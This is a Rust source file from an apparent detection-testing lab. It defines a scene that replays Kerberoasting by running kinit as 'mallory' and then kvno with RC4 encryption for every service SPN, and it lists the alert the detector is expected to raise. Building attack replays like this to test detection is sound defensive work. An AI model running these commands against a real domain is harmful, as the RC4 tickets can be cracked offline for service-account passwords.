//! Kerberoasting with MIT Kerberos' own client: an RC4 ticket for every known service, none of which
//! is then visited.

use anyhow::Result;

use crate::lab::{ATTACKER, Lab};
use crate::scene::{Expected, Scene, Tool};

pub(super) const SCENE: Scene = Scene::attack(
    "kerberoast-kvno",
    "Kerberoasting of seven services, RC4 (MIT kvno)",
    Tool::debian("kvno", "krb5-user"),
    &[Expected {
        external_id: 2410,
        source: ATTACKER,
        account: Some("mallory@hawk.example"),
        targets: &[
            "MSSQLSvc/sql1.hawk.example:1433",
            "HTTP/intranet.hawk.example",
        ],
    }],
    play,
);

fn play(lab: &mut Lab) -> Result<()> {
    let attacker = lab.host("attacker")?;
    let services: Vec<&str> = crate::accounts::SERVICES
        .iter()
        .map(|(_, spn)| *spn)
        .collect();
    attacker.script(r#"echo "$PASSWORD" | kinit mallory"#)?;
    attacker.script(&format!("kvno -e rc4-hmac {}", services.join(" ")))?;
    Ok(())
}
